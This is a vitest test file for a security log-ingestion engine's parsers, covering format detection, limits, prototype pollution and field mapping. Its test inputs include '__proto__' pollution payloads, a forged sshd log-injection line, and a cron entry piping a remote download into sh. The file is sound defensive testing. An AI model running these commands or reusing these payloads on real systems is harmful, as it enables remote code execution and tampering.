import { describe, expect, it } from 'vitest';
import type { Fields } from '../../engine/event.js';
import { loadFormats } from '../../engine/ingest/formats/index.js';
import { MAX_DEPTH, MAX_FIELDS } from '../../engine/ingest/formats/shared/limits.js';

const formats = await loadFormats();
const { read, fromRecord } = formats.recogniser();
const RECEIVED = Date.UTC(2026, 2, 5);
const TS = '"@timestamp":"2026-03-04T08:00:00Z"';
const code = (expected: string) => expect.objectContaining({ code: expected });
const nested = (levels: number) => `{${TS},"a":${'['.repeat(levels - 1)}${']'.repeat(levels - 1)}}`;

describe('lines', () => {
  it.each(['{', '{"a":}', '{"a":1} trailing', '[1]', '["x"]', ' [', '{"a":"\u0001"}', '\uFEFF{'])(
    '%j is not a JSON object',
    (line) => {
      expect(() => read(line, null, RECEIVED)).toThrow(code('MDR_LINE_JSON'));
    },
  );

  it.each(['', 'hello', 'null', '42', '<34>', 'Mar  4 08:15:02', '\u0000\u0001'])('%j is of no format', (line) => {
    expect(() => read(line, null, RECEIVED)).toThrow(code('MDR_FORMAT_UNKNOWN'));
  });

  it('asks a named JSON format for JSON, whatever the line looks like', () => {
    expect(() => read('Mar  4 08:15:02 h p: m', formats.byName('windows'), RECEIVED)).toThrow(code('MDR_LINE_JSON'));
    expect(() => read('42', formats.byName('generic'), RECEIVED)).toThrow(code('MDR_LINE_JSON'));
  });

  it('takes leading blanks and a byte order mark before JSON', () => {
    for (const before of [' ', '\t ', '\uFEFF', '\uFEFF '])
      expect(read(`${before}{${TS}}`, null, RECEIVED).format.name).toBe('generic');
  });

  it.each([
    '{"a":1}',
    '{"@timestamp":"soon"}',
    '{"Channel":"Security","EventID":4624}',
    '{"_path":"conn","ts":"never"}',
    '{"Event":{"System":{"EventID":1}}}',
    '<34>1 2026-99-04T08:00:00Z host app 1 - - text',
    'Feb 31 08:15:02 host app: text',
    '{"eventVersion":"1","eventSource":"s3.amazonaws.com","eventName":"X"}',
  ])('%s has no time that can be read', (line) => {
    expect(() => read(line, null, RECEIVED)).toThrow(code('MDR_LINE_TIME'));
  });

  it('gives an RFC 5424 line that declares no time the time of its reception', () => {
    expect(read('<34>1 - host app 1 - - text', null, RECEIVED).parsed.time).toBe(RECEIVED);
  });

  it('asks in order of priority whatever was read before', () => {
    const windows = formats.byName('windows').samples[0]!.line;
    const zeek = formats.byName('zeek').samples[0]!.line;
    const both = { ...JSON.parse(zeek), ...JSON.parse(windows) };
    for (const before of [windows, zeek]) {
      read(before, null, RECEIVED);
      expect(read(JSON.stringify(both), null, RECEIVED).format.name).toBe('windows');
    }
  });
});

describe('limits', () => {
  it('takes records up to the depth and refuses deeper ones, however deep', () => {
    expect(read(nested(MAX_DEPTH), null, RECEIVED).format.name).toBe('generic');
    for (const levels of [MAX_DEPTH + 1, 5000, 200_000])
      expect(() => read(nested(levels), null, RECEIVED)).toThrow(code('MDR_LINE_TOO_DEEP'));
    const objects = `${'{"a":'.repeat(100)}1${'}'.repeat(100)}`;
    expect(() => read(objects, null, RECEIVED)).toThrow(code('MDR_LINE_TOO_DEEP'));
  });

  it('counts names and elements over all levels', () => {
    const wide = (n: number): Fields => Object.fromEntries(Array.from({ length: n }, (_, i) => [`k${i}`, i]));
    const time = { time: 1772611200 };
    expect(fromRecord({ ...time, ...wide(MAX_FIELDS - 1) }, RECEIVED).format.name).toBe('generic');
    const half = MAX_FIELDS / 2;
    for (const record of [
      wide(MAX_FIELDS),
      { a: wide(half), b: wide(half) },
      { a: Array.from({ length: MAX_FIELDS }, () => 0) },
    ])
      expect(() => fromRecord({ ...time, ...record }, RECEIVED)).toThrow(code('MDR_LINE_TOO_DEEP'));
  });
});

describe('__proto__ in a record', () => {
  const lines = [
    `{${TS},"__proto__":{"user":"mallory","polluted":1}}`,
    '{"__proto__":{"polluted":1},"winlog":{"__proto__":{"polluted":1},"channel":"Security","event_id":1,"event_data":{"__proto__":{"polluted":1}},"user_data":{"__proto__":{"polluted":1}}},"@timestamp":"2026-03-04T08:00:00Z"}',
    '{"@timestamp":"2026-03-04T08:00:00Z","winlog.channel":"Security","winlog.event_data.__proto__":{"polluted":1},"winlog.__proto__":{"polluted":1}}',
    '{"Event":{"System":{"Channel":"X","EventID":1,"TimeCreated":{"@SystemTime":"2026-03-04T08:00:00Z"}},"EventData":{"Data":[{"@Name":"__proto__","#text":{"polluted":1}}]}}}',
    '{"Event":{"System":{"Channel":"X","EventID":1,"TimeCreated":{"@SystemTime":"2026-03-04T08:00:00Z"}},"UserData":{"a":{"__proto__":{"polluted":1}}}}}',
    '{"Event":{"System":{"Channel":"Microsoft-Windows-Windows Defender/Operational","EventID":1116,"TimeCreated":{"@SystemTime":"2026-03-04T08:00:00Z"}},"EventData":{" __proto__":{"polluted":1}}}}',
    'type=EXECVE msg=audit(1772611200.431:7710): __proto__=polluted a0="x"',
  ];
  it.each(lines)('is harmless: %s', (line) => {
    const { parsed } = read(line, null, RECEIVED);
    expect(parsed.ecs()['user.name']).toBeUndefined();
    expect((parsed.fields as { polluted?: unknown }).polluted).toBeUndefined();
    expect(Object.getPrototypeOf(parsed.fields)).toBe(Object.prototype);
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
  });
});

describe('meaning', () => {
  const ecs = (line: string) => read(line, null, RECEIVED).parsed.ecs();

  it('takes the address from the daemon, not from a user name that imitates it', () => {
    const forged =
      'Mar  4 08:16:40 h sshd[1]: Failed password for invalid user a from 6.6.6.6 port 1 ssh2 from 203.0.113.9 port 22 ssh2';
    expect(ecs(forged)).toMatchObject({ 'source.ip': '203.0.113.9', 'user.name': 'a from 6.6.6.6 port 1 ssh2' });
  });

  it('takes it from the daemon even when the imitation is longer than a user name can be', () => {
    const name = `${'a'.repeat(100)} from 6.6.6.6 port 1 ssh2: ${'b'.repeat(150)}`;
    expect(ecs(`Mar  4 08:16:40 h sshd[1]: Failed password for ${name} from 203.0.113.9 port 22 ssh2`)).toMatchObject({
      'source.ip': '203.0.113.9',
      'user.name': name,
    });
  });

  it('takes the channel from the system part, not from data of the same name', () => {
    const line =
      '{"Event":{"System":{"Channel":"Security","EventID":4624,"TimeCreated":{"@SystemTime":"2026-03-04T08:00:00Z"}},"EventData":{"Channel":"System","EventID":"1"}}}';
    const { logsource, fields } = read(line, null, RECEIVED).parsed;
    expect([logsource.service, fields.Channel, fields.EventID]).toEqual(['security', 'Security', 4624]);
  });

  it('matches channels without regard to case, and event ids written as text', () => {
    const line = '{"Channel":"MICROSOFT-WINDOWS-SYSMON/OPERATIONAL","EventID":"7","UtcTime":"2026-03-04 08:00:00.000"}';
    expect(read(line, null, RECEIVED).parsed.logsource).toEqual({
      product: 'windows',
      service: 'sysmon',
      categories: ['image_load'],
    });
  });

  it('prefers a time with a zone to local time, and Sysmon’s UTC to the collector’s', () => {
    const at = (record: Fields) =>
      new Date(fromRecord({ Channel: 'Security', EventID: 1, ...record }, RECEIVED).parsed.time).toISOString();
    expect(at({ EventTime: '2026-03-04 03:00:00', '@timestamp': '2026-03-04T08:00:01Z' })).toBe(
      '2026-03-04T08:00:01.000Z',
    );
    expect(at({ EventTime: '2026-03-04T03:00:00-05:00', '@timestamp': '2026-03-04T08:00:09Z' })).toBe(
      '2026-03-04T08:00:00.000Z',
    );
    expect(at({ TimeCreated: '2026-03-04 03:00:00', UtcTime: '2026-03-04 08:00:00.5' })).toBe(
      '2026-03-04T08:00:00.500Z',
    );
    expect(at({ TimeCreated: '2026-03-04 03:00:00' })).toBe('2026-03-04T03:00:00.000Z');
  });

  it('calls a registry value that was deleted a deletion, and a key that was created a creation', () => {
    const audit = {
      Channel: 'Security',
      EventID: 4657,
      TimeCreated: '2026-03-04T08:00:00Z',
      ObjectName: '\\REGISTRY\\USER\\S-1-5-21-1\\$&',
    };
    const deleted = fromRecord({ ...audit, OperationType: '%%1906' }, RECEIVED).parsed;
    expect(deleted.logsource.categories).toEqual(['registry_delete', 'registry_event']);
    expect(deleted.fields).toMatchObject({ EventType: 'DeleteValue', TargetObject: 'HKU\\S-1-5-21-1\\$&' });
    const created = {
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      EventID: 12,
      UtcTime: '2026-03-04 08:00:00',
      EventType: 'CreateKey',
    };
    expect(fromRecord(created, RECEIVED).parsed.logsource.categories).toEqual(['registry_add', 'registry_event']);
  });

  it('runs process rules on commands in syslog', () => {
    const line = '2026-03-04T08:00:00Z h CRON[7]: (root) CMD (curl -s http://198.51.100.9/x | sh)';
    const { fields, logsource } = read(line, null, RECEIVED).parsed;
    expect(logsource).toEqual({ product: 'linux', service: 'cron', categories: ['process_creation'] });
    expect(fields).toMatchObject({ CommandLine: 'curl -s http://198.51.100.9/x | sh', User: 'root' });
    expect(fields.Image).toBeUndefined();
  });

  it('reads audit records that syslog carries', () => {
    const line = 'Mar  4 08:00:00 db-01 audispd: type=EXECVE msg=audit(1772611200.431:7): argc=2 a0="id" a1=2D6120';
    const { fields, logsource } = read(line, null, RECEIVED).parsed;
    expect(logsource.service).toBe('auditd');
    expect(fields.CommandLine).toBe('id -a ');
    expect(ecs(line)['host.name']).toBe('db-01');
  });
});
